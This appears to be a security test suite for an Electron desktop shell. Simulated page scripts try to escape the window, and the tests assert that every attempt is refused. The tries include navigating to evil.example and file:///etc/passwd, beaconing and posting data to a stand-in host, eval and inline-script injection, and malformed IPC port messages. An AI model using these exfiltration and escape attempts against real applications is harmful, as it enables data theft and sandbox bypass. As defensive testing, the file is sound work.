/**
 * The desktop shell under attack, on the stand-in: scripts of the page itself try to get out. For each try: what main answered, and what Chromium
 * did with it. Where Chromium refuses before it asks, main is asked by the test.
 */
import { existsSync, readFileSync } from 'node:fs';
import { rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { builtProgram, startProgram, type Program } from '../electron/stand-in/index.ts';
import { MessageChannelMain } from '../electron/stand-in/ports.ts';
import { openBrowser } from '../support/browser.ts';
import * as at from '../support/counsellor.ts';
import { newOfficeFolder, newWindow, storyDay, storyTime } from '../support/office-window.ts';
import { fromThePage as runInPage } from '../support/page-script.ts';

let browser: Browser;
let program: Program;
let page: Page;
let dir: string;

/** What the page's scripts keep for a later try, under this name. */
interface Loot {
  /** The ports of the last load, taken as they went by. */
  ports: Record<string, MessagePort>;
  /** Every message the page heard, in order, with the number of its ports. */
  heard: string[];
  violations: string[];
  answers: string[];
}

beforeAll(async () => {
  browser = await openBrowser();
  dir = await newOfficeFolder();
  program = await startProgram({
    context: await newWindow(browser),
    appPath: builtProgram(),
    args: ['--dir', dir, '--today', storyDay],
    prepare: async (fresh) => {
      await fresh.clock.setFixedTime(storyTime);
      await fresh.addInitScript(() => {
        const loot: Loot = { ports: {}, heard: [], violations: [], answers: [] };
        (globalThis as unknown as { loot: Loot }).loot = loot;
        addEventListener('message', ({ data, ports: { length, 0: port } }) => {
          loot.heard.push(`${JSON.stringify(data)} ${String(length)}`);
          if (typeof data === 'string' && port !== undefined) loot.ports[data] = port;
        });
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => { loot.violations.push(`${effectiveDirective} ${blockedURI.replace(/\/$/, '')}`); });
      });
    },
  });
  page = await program.firstWindow();
  await at.setUpOffice(page);
});

afterAll(async () => {
  await program?.close();
  await browser?.close();
  await rm(dir ?? '', { recursive: true, force: true });
});

const contents = () => {
  const [window] = program.windows;
  if (window === undefined) throw new Error('there is no window');
  return window.webContents;
};

/** Every try ends where it began: with our page on the screen and no other one. */
async function unharmed(): Promise<void> {
  // Looked at, not waited for by its locator: that waits for a navigation that was begun and refused.
  await expect.poll(() => page.getByRole('navigation', { name: 'Hauptbereiche' }).isVisible(), { timeout: 10_000 }).toBe(true);
  expect(page.url()).toMatch(/^https:\/\/app\/(#.*)?$/);
  expect(program.windows).toHaveLength(1);
  await expect.poll(() => page.context().pages().length).toBe(1);
  expect(program.problems).toEqual([]);
}

const fromThePage = <T>(attack: () => T | Promise<T>): Promise<T | string> => runInPage(page, attack);

/** What the page heard since the last look. */
const heard = () => page.evaluate(() => (globalThis as unknown as { loot: Loot }).loot.heard.splice(0));

/** Main hands out new ports, as after a restart of the core: the last thing a page hears of whatever was sent before. */
async function handNewPorts(): Promise<void> {
  contents().emit('did-finish-load', {});
  await expect.poll(() => page.evaluate(() => (globalThis as unknown as { loot: Loot }).loot.heard.at(-1))).toBe('"lotse:core" 1');
}

/** A load of its own, as after „Neu laden“: with ports that nobody has misused yet. */
const loadAgain = async (): Promise<void> => {
  // What was taken in the former load is not taken for this one's.
  await page.evaluate(() => { (globalThis as unknown as { loot: Loot }).loot.ports = {}; });
  contents().reload();
  await expect.poll(() => page.evaluate(() => Object.keys((globalThis as unknown as { loot?: Loot }).loot?.ports ?? {}).toSorted()).catch(() => []), { timeout: 30_000 }).toEqual(['lotse:core', 'lotse:shell']);
  await page.getByRole('heading', { name: 'Entsperren' }).waitFor();
};

const violations = () => page.evaluate(() => (globalThis as unknown as { loot: Loot }).loot.violations);

/** Questions about a navigation since the last look, with main's answers. */
const asked = () => contents().asked.splice(0).map(({ event, url, allowed }) => `${event} ${url} ${allowed ? 'allowed' : 'refused'}`);

beforeEach(async () => {
  await page.evaluate(() => { (globalThis as unknown as { loot: Loot }).loot.violations = []; });
  asked();
});

describe('the window has no powers', () => {
  test('it lives on its own scheme, without Node, Electron or a way to send', async () => {
    expect(await page.evaluate(() => location.protocol)).not.toBe('http:');
    expect(contents().getURL()).toMatch(/^lotse:\/\/app\//);
    const names = ['require', 'process', 'Buffer', 'module', 'global', 'ipcRenderer', 'electron', 'contextBridge', 'setImmediate'];
    expect(await page.evaluate((powers) => powers.filter((name) => name in globalThis), names)).toEqual([]);
    expect(await page.evaluate(() => Object.keys(globalThis).filter((name) => /lotse|electron|ipc|preload/i.test(name)))).toEqual([]);
  });

  test('it was opened closed: sandbox, isolation, no webview, no file by drag', () => {
    expect(program.windows[0]?.options.webPreferences).toMatchObject({
      sandbox: true, contextIsolation: true, nodeIntegration: false, nodeIntegrationInSubFrames: false, nodeIntegrationInWorker: false, webSecurity: true, webviewTag: false,
      navigateOnDragDrop: false, allowRunningInsecureContent: false,
    });
    expect(program.app.acts).toContain('enableSandbox');
    expect(program.schemes).toEqual([{ scheme: 'lotse', privileges: { standard: true, secure: true, supportFetchAPI: true } }]);
  });
});

describe('a way out of the window', () => {
  test('navigation: main refuses it, and the page stays', async () => {
    await fromThePage(() => { location.href = 'https://evil.example/collect'; });
    await expect.poll(asked).toEqual(['will-frame-navigate https://evil.example/collect refused']);
    await fromThePage(() => { location.assign('http://127.0.0.1:9/'); });
    await expect.poll(asked).toEqual(['will-frame-navigate http://127.0.0.1:9/ refused']);
    expect(program.session().askedFor.filter(({ answer }) => answer === 'no network')).toEqual([]);
    await unharmed();
  });

  test('navigation to what Chromium itself refuses a page: main would refuse it too', async () => {
    for (const attack of [() => { location.href = 'file:///etc/passwd'; }, () => { location.href = 'data:text/html,<h1>evil</h1>'; }, () => { location.href = 'chrome://version'; }]) await fromThePage(attack);
    await unharmed();
    for (const url of ['file:///C:/Windows/win.ini', 'data:text/html,evil', 'chrome://version', 'javascript:alert(1)', 'about:blank', 'blob:https://evil.example/1', 'lotse://other/', 'lotse://app.evil.example/', 'ms-msdt:/id', 'search-ms:query=evil']) {
      expect([url, contents().mayNavigate(url, null)]).toEqual([url, false]);
    }
  });

  test('redirect: even an answer of our own scheme leads nowhere else', async () => {
    const { handlers } = program.session();
    const own = handlers.get('lotse');
    if (own === undefined) throw new Error('main handles no scheme lotse');
    handlers.set('lotse', (request) => (request.url.endsWith('/umweg') ? new Response(null, { status: 302, headers: { Location: 'https://evil.example/' } }) : own(request)));
    await fromThePage(() => { location.href = '/umweg'; });
    await expect.poll(asked).toEqual(['will-frame-navigate lotse://app/umweg allowed', 'will-navigate lotse://app/umweg allowed', 'will-redirect https://evil.example/ refused']);
    handlers.set('lotse', own);
    await unharmed();
  });

  test.each([
    ['window.open', () => { window.open('https://evil.example/'); }],
    ['window.open of our own page', () => { window.open('/'); }],
    ['window.open without an opener', () => { window.open('https://evil.example/', '_blank', 'noopener,width=300'); }],
    ['a link into a new window', () => {
      const link = Object.assign(document.createElement('a'), { href: 'https://evil.example/', target: '_blank' });
      document.body.append(link);
      link.click();
      link.remove();
    }],
  ])('%s: denied, and there is no second window', async (_name, attack) => {
    const before = contents().opened.length;
    await fromThePage(attack);
    await expect.poll(() => contents().opened.length).toBe(before + 1);
    expect(contents().opened.at(-1)?.action).toBe('deny');
    await unharmed();
  });

  test('middle click and Ctrl+click: a tab in the background is denied', async () => {
    await page.evaluate(() => {
      const link = Object.assign(document.createElement('a'), { href: 'https://evil.example/', textContent: 'link', id: 'link' });
      Object.assign(link.style, { position: 'fixed', insetBlockStart: '0', insetInlineStart: '0', zIndex: '99', padding: '20px' });
      document.body.append(link);
    });
    await page.mouse.click(12, 12, { button: 'middle' });
    await page.keyboard.down('Control');
    await page.mouse.click(12, 12);
    await page.keyboard.up('Control');
    await page.evaluate(() => document.getElementById('link')?.remove());
    // Chromium opens these without a word to a page's debugger, and the stand-in closes them; what Electron asks main is asked here.
    expect(contents().openHandler?.({ url: 'https://evil.example/', frameName: '', features: '', disposition: 'background-tab' })).toEqual({ action: 'deny' });
    await unharmed();
  });

  test('form post: the policy refuses it, and main answers no POST', async () => {
    await fromThePage(() => {
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
      form.append(Object.assign(document.createElement('input'), { name: 'name', value: 'Haydari' }));
      document.body.append(form);
      form.submit();
      form.remove();
    });
    await expect.poll(violations).toEqual(['form-action https://evil.example']);
    expect(asked()).toEqual([]);
    const answer = await program.session().handlers.get('lotse')?.(new Request('lotse://app/', { method: 'POST', body: 'name=Haydari' }));
    expect(answer?.status).toBe(404);
    await unharmed();
  });

  test('a file dropped on the window is not opened', async () => {
    const file = join(dir, 'dropped.html');
    await writeFile(file, '<h1>evil</h1>');
    const link = 'https://evil.example/dropped';
    const session = await page.context().newCDPSession(page);
    const drops = [{ items: [], files: [file], dragOperationsMask: 1 }, { items: [{ mimeType: 'text/uri-list', data: link }], dragOperationsMask: 1 }];
    const dropAll = async (): Promise<unknown> => {
      await page.evaluate(() => { (globalThis as unknown as { dragged: string[] }).dragged = []; });
      for (const data of drops) for (const type of ['dragEnter', 'dragOver', 'drop'] as const) await session.send('Input.dispatchDragEvent', { type, x: 400, y: 400, data });
      return page.evaluate(() => [...new Set((globalThis as unknown as { dragged: string[] }).dragged)]);
    };
    await page.evaluate(() => {
      const world = globalThis as unknown as { dragged: string[] } & Record<'watchDrops' | 'takeDrops' | 'keepFromFrame', AbortController>;
      for (const name of ['watchDrops', 'takeDrops', 'keepFromFrame'] as const) world[name] = new AbortController();
      for (const kind of ['dragover', 'drop'] as const) {
        const first = { capture: true } as const;
        addEventListener(kind, ({ dataTransfer }) => { world.dragged.push(`${kind} ${dataTransfer?.types.join() ?? ''}`); }, { ...first, signal: world.watchDrops.signal });
        addEventListener(kind, (event) => { event.preventDefault(); }, { ...first, signal: world.takeDrops.signal });
        // Our frame refuses files by itself; what main does is seen where it has nothing to say.
        addEventListener(kind, (event) => { event.stopImmediatePropagation(); }, { ...first, signal: world.keepFromFrame.signal });
      }
    });
    // To a page that takes it everything arrives.
    expect(await dropAll()).toEqual(['dragover Files', 'drop Files', 'dragover text/uri-list', 'drop text/uri-list']);
    // One that takes nothing: then Chromium itself opens what was dropped, and is refused by main.
    await page.evaluate(() => { (globalThis as unknown as { takeDrops: AbortController }).takeDrops.abort(); });
    const { askedFor } = program.defaultSession();
    const before = askedFor.length;
    expect(await dropAll()).toEqual(['dragover Files', 'dragover text/uri-list']);
    await expect.poll(() => askedFor.slice(before).map(({ url, answer }) => [url, answer])).toEqual([[`file://${file}`, 'cancelled'], [link, 'cancelled']]);
    // Ours does not even let a file fall.
    const asked = askedFor.length;
    await page.evaluate(() => { (globalThis as unknown as { keepFromFrame: AbortController }).keepFromFrame.abort(); });
    expect(await dropAll()).toEqual(['dragover Files', 'dragover text/uri-list']);
    await expect.poll(() => askedFor.slice(asked).map(({ url, answer }) => [url, answer])).toEqual([[link, 'cancelled']]);
    await page.evaluate(() => { (globalThis as unknown as { watchDrops: AbortController }).watchDrops.abort(); });
    await session.detach();
    await unharmed();
    expect([contents().mayNavigate(`file://${file}`, null), contents().mayNavigate(link, null)]).toEqual([false, false]);
  });

  test('addresses: whatever a page may ask for, main cancels what is not ours, and the policy lets it ask for less', async () => {
    const results = await fromThePage(async () => {
      const named = (problem: unknown): string => (problem as Error).name;
      const fetched = await fetch('https://evil.example/').then(() => 'loaded', named);
      const local = await fetch('http://127.0.0.1:9/').then(() => 'loaded', named);
      const beacon = navigator.sendBeacon('https://evil.example/', 'Haydari');
      const picture = await new Promise<string>((resolve) => {
        const image = new Image();
        image.onload = () => { resolve('loaded'); };
        image.onerror = () => { resolve('refused'); };
        image.src = 'https://evil.example/pixel.png';
      });
      const socket = await new Promise<string>((resolve) => {
        try {
          const line = new WebSocket('wss://evil.example/');
          line.onopen = () => { resolve('open'); };
          line.onerror = () => { resolve('refused'); };
        } catch (problem) {
          resolve(named(problem));
        }
      });
      const worker = await navigator.serviceWorker.register('/assets/worker.js').then(() => 'registered', named);
      return { fetched, local, beacon, picture, socket, worker };
    });
    expect(results).toMatchObject({ fetched: 'TypeError', local: 'TypeError', picture: 'refused' });
    expect((results as { socket: string }).socket).not.toBe('open');
    expect((results as { worker: string }).worker).not.toBe('registered');
    const refused = await violations();
    expect(refused.filter((one) => one.startsWith('connect-src')).length).toBeGreaterThanOrEqual(4);
    expect(refused).toContain('img-src https://evil.example/pixel.png');
    const cancels: unknown[] = [];
    for (const url of ['https://evil.example/', 'http://127.0.0.1:9/', 'ws://127.0.0.1:9/', 'wss://evil.example/', 'file:///etc/passwd', 'ftp://evil.example/', 'lotse://other/', 'blob:https://evil.example/1', 'chrome://version']) {
      program.session().beforeRequest?.({ url }, ({ cancel }) => cancels.push(cancel));
    }
    expect(cancels).toEqual(Array.from({ length: 9 }, () => true));
    await unharmed();
  });

  test('downloads: main prevents them, whoever made the bytes', async () => {
    await fromThePage(() => {
      const link = Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['evil'])), download: 'Rechnung.exe' });
      document.body.append(link);
      link.click();
      link.remove();
    });
    await expect.poll(() => program.session().downloads.map(({ prevented }) => prevented)).toEqual([true]);
    await unharmed();
  });
});

describe('foreign code', () => {
  test('eval, Function, text timers and inline scripts do not run', async () => {
    const tried = await fromThePage(() => {
      const marks: Record<string, string> = {};
      const mark = (what: string, act: () => void): void => {
        try {
          act();
          marks[what] = 'allowed';
        } catch (problem) {
          marks[what] = (problem as Error).name;
        }
      };
      // eslint-disable-next-line no-eval -- the attack itself
      mark('eval', () => void (0, eval)('globalThis.ranEval = true'));
      // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call, no-restricted-syntax -- the attack itself
      mark('Function', () => void new Function('globalThis.ranFunction = true')());
      mark('timer', () => void Reflect.apply(setTimeout, globalThis, ['globalThis.ranTimer = true', 0]));
      mark('handler', () => { document.body.setAttribute('onmousemove', 'globalThis.ranHandler = true'); });
      mark('script text', () => {
        const script = document.createElement('script');
        script.textContent = 'globalThis.ranInline = true';
        document.head.append(script);
      });
      mark('markup', () => { document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.ranMarkup = true">'); });
      mark('source', () => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/a.js';
        document.head.append(script);
      });
      mark('policy', () => void (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('evil', {}));
      return marks;
    });
    expect(tried).toMatchObject({ eval: 'EvalError', Function: 'EvalError', handler: 'TypeError', 'script text': 'TypeError', markup: 'TypeError', source: 'TypeError', policy: 'TypeError' });
    expect(await page.evaluate(() => Object.keys(globalThis).filter((name) => name.startsWith('ran')))).toEqual([]);
    await unharmed();
  });

  test('a javascript: link does nothing', async () => {
    await page.evaluate(() => {
      const link = Object.assign(document.createElement('a'), { href: 'javascript:globalThis.ranLink=true', textContent: 'link', id: 'link' });
      Object.assign(link.style, { position: 'fixed', insetBlockStart: '0', insetInlineStart: '0', zIndex: '99', padding: '20px' });
      document.body.append(link);
    });
    await page.mouse.click(12, 12);
    await expect.poll(async () => (await violations()).map((one) => one.split(' ')[0])).toContain('script-src-elem');
    expect(await page.evaluate(() => Object.keys(globalThis).filter((name) => name.startsWith('ran')))).toEqual([]);
    await page.evaluate(() => document.getElementById('link')?.remove());
    await unharmed();
  });

  test('a foreign frame is refused by the policy and by main; a frame the page makes itself runs nothing and hears no port', async () => {
    await fromThePage(async () => {
      const made = Object.assign(document.createElement('iframe'), { src: URL.createObjectURL(new Blob(['<script>parent.ranInFrame = true</script>'], { type: 'text/html' })) });
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }), made);
      await new Promise((resolve) => { made.addEventListener('load', resolve); });
      const messages: unknown[] = [];
      (globalThis as unknown as { heardInFrame: unknown[] }).heardInFrame = messages;
      made.contentWindow?.addEventListener('message', ({ data, ports }) => messages.push(data, ...ports));
      // It does hear what is meant for it.
      made.contentWindow?.postMessage('control', '*');
    });
    const heardInFrame = () => page.evaluate(() => (globalThis as unknown as { heardInFrame: unknown[] }).heardInFrame.map(String));
    await expect.poll(heardInFrame).toEqual(['control']);
    await heard();
    await handNewPorts();
    expect(await heard()).toEqual(['"lotse:shell" 1', '"lotse:core" 1']);
    expect(await heardInFrame()).toEqual(['control']);
    const refused = await violations();
    expect(refused).toContain('frame-src https://evil.example');
    expect(await page.evaluate(() => Object.keys(globalThis).filter((name) => name.startsWith('ran')))).toEqual([]);
    await page.evaluate(() => { for (const frame of document.querySelectorAll('iframe')) frame.remove(); });
    const [frame = null] = page.frames();
    expect(frame).not.toBeNull();
    for (const url of ['https://evil.example/', 'file:///etc/passwd', 'lotse://app/', 'data:text/html,evil', 'blob:https://evil.example/1']) {
      expect([url, contents().asks('will-frame-navigate', { url, isMainFrame: false })]).toEqual([url, false]);
    }
    await loadAgain();
    await at.unlock(page);
    await unharmed();
  });
});

/** Every permission Electron 45 names. */
const permissions = [
  'ar', 'automatic-fullscreen', 'background-fetch', 'background-sync', 'captured-surface-control', 'clipboard-read', 'clipboard-sanitized-write', 'deprecated-sync-clipboard-read', 'display-capture',
  'fileSystem', 'fullscreen', 'geolocation', 'geolocation-approximate', 'hand-tracking', 'hid', 'idle-detection', 'keyboardLock', 'local-fonts', 'local-network', 'local-network-access',
  'loopback-network', 'media', 'mediaKeySystem', 'midi', 'midiSysex', 'nfc', 'notifications', 'openExternal', 'payment-handler', 'periodic-background-sync', 'persistent-storage', 'pointerLock',
  'screen-wake-lock', 'sensors', 'serial', 'smart-card', 'speaker-selection', 'storage-access', 'system-wake-lock', 'top-level-storage-access', 'usb', 'vr', 'web-app-installation', 'web-printing',
  'window-management', 'unknown',
];

describe('permissions', () => {
  test('main says no to each that Electron knows, asked or looked up', () => {
    const session = program.session();
    expect(permissions.filter((one) => {
      const { checked, requested } = session.mayUse(contents(), one, 'lotse://app');
      return checked || requested;
    })).toEqual([]);
  });

  test('no device, no screen, no certificate of a client, no webview', () => {
    const session = program.session();
    for (const deviceType of ['hid', 'serial', 'usb']) expect(session.devicePermission?.({ deviceType, origin: 'lotse://app', device: {} })).toBe(false);
    // Without who chooses one no screen is ever handed out.
    expect(session.displayMedia).toBeNull();
    let attached = true;
    contents().emit('will-attach-webview', { preventDefault: () => { attached = false; } }, {}, {});
    expect(attached).toBe(false);
    const trusted: boolean[] = [];
    program.app.emit('certificate-error', { preventDefault: () => undefined }, contents(), 'https://evil.example/', 'net::ERR_CERT_AUTHORITY_INVALID', {}, (trust: boolean) => { trusted.push(trust); });
    expect(trusted).toEqual([false]);
  });

  /** What a script of the page gets when it asks. */
  const askForPowers = () =>
    fromThePage(async () => {
      const given = () => 'granted';
      const named = (problem: unknown): string => (problem as Error).name;
      const location = await new Promise<string>((resolve) => { navigator.geolocation.getCurrentPosition(() => { resolve('granted'); }, ({ code }) => { resolve(`refused ${String(code)}`); }); });
      const camera = await navigator.mediaDevices.getUserMedia({ video: true, audio: true }).then(given, named);
      const clipboard = await navigator.clipboard.readText().then(given, named);
      const midi = await navigator.requestMIDIAccess().then(given, named);
      const notifications = await Notification.requestPermission();
      return { location, camera, clipboard, midi, notifications };
    });

  test('what a page asks for is refused to it', async () => {
    // The PC of the tests has no camera: which error comes first is not ours.
    const byOurPolicy = { location: 'refused 1', camera: expect.stringMatching(/^Not(Allowed|Found)Error$/) as string, clipboard: 'NotAllowedError' };
    expect(await askForPowers()).toEqual({ ...byOurPolicy, midi: 'NotAllowedError', notifications: 'denied' });
    // It is main that says no: a main that says yes is obeyed, in all that the policy of our pages leaves to it.
    const session = program.session();
    const { permissionRequest, permissionCheck } = session;
    session.setPermissionRequestHandler((_contents, _permission, decide) => { decide(true); });
    session.setPermissionCheckHandler(() => true);
    await loadAgain();
    expect(await askForPowers()).toEqual({ ...byOurPolicy, midi: expect.not.stringMatching('NotAllowedError') as string, notifications: 'granted' });
    session.setPermissionRequestHandler(permissionRequest);
    session.setPermissionCheckHandler(permissionCheck);
    await loadAgain();
    await at.unlock(page);
    await unharmed();
  });
});

describe('ports', () => {
  const noted = () => join(program.app.getPath('userData'), 'notes.log');
  const notes = () => (existsSync(noted()) ? readFileSync(noted(), 'utf8') : '');

  /** Says something through a port of this load; the answer to it comes among `answers`. A page is not told that a port was closed. */
  const say = (channel: string, what: string) =>
    page.evaluate(
      ({ channel: name, what: kind }) => {
        const { loot } = globalThis as unknown as { loot: Loot };
        const port = loot.ports[name];
        if (port === undefined) throw new Error('no port');
        port.addEventListener('message', ({ data }: MessageEvent<unknown>) => loot.answers.push(String(data)));
        const call = (path: string): string => JSON.stringify({ i: '9001', p: { u: path, b: { json: {} } } });
        const messages: Record<string, unknown> = {
          'an undeclared procedure': call('/files/eraseEverything'),
          'a name of every object': call('/constructor/constructor'),
          'half a message': '{"half',
          'an object': { id: 1, path: ['about'] },
          'bytes that are no form': new Uint8Array([0x7b, 0x7d, 0xff, 1, 2, 3]),
          'another address': call('https://evil.example/about'),
          '100 MB': 'x'.repeat(100_000_000),
        };
        port.postMessage(messages[kind]);
      },
      { channel, what },
    );
  const answers = () => page.evaluate(() => (globalThis as unknown as { loot: Loot }).loot.answers.filter((text) => text.includes('"9001"')).join());
  /** Ports of this load that main and core hold open. */
  const open = () => contents().bridge.ports.size;

  test('each load gets one port of each kind', async () => {
    await loadAgain();
    await at.unlock(page);
    await unharmed();
  });

  test('an undeclared channel is heard by nobody: the preload forwards two', async () => {
    const { port2 } = new MessageChannelMain();
    await heard();
    contents().postMessage('lotse:admin', { do: 'anything' }, [port2]);
    contents().postMessage('lotse:admin', { do: 'anything' });
    await handNewPorts();
    expect(await heard()).toEqual(['"lotse:shell" 1', '"lotse:core" 1']);
    // The other way round there is none: nothing in the page can send, and main listens to nothing.
    for (const event of ['ipc-message'] as const) expect(contents().listenerCount(event)).toBe(0);
  });

  describe.each(['lotse:shell', 'lotse:core'])('%s', (channel) => {
    beforeEach(loadAgain);

    test.each(['an undeclared procedure', 'a name of every object'])('%s is answered as not there', async (what) => {
      await say(channel, what);
      await expect.poll(answers).toMatch(/^\{"i":"9001","p":\{"s":404,/);
      expect(open()).toBe(2);
    });

    test.each(['half a message', 'an object', 'bytes that are no form', 'another address', '100 MB'])('%s closes this port and no other; program and core go on', async (what) => {
      const before = notes().length;
      const core = program.processes.filter(({ modulePath }) => modulePath.endsWith('core.mjs')).at(-1);
      expect(open()).toBe(2);
      await say(channel, what);
      await expect.poll(open, { timeout: 60_000 }).toBe(1);
      expect(await answers()).toBe('');
      await expect.poll(() => notes().slice(before)).toMatch(channel === 'lotse:shell' ? /SHELL_MESSAGE_REFUSED/ : /WINDOW_CUT_OFF/);
      expect(core?.pid).toBeDefined();
      await loadAgain();
      await at.unlock(page);
      await unharmed();
      expect(program.processes.filter(({ modulePath }) => modulePath.endsWith('core.mjs'))).toHaveLength(1);
    });
  });

  test('nothing of all this is noted with a word of it', () => {
    expect(notes()).not.toMatch(/evil|Haydari|xxxx/);
  });
});
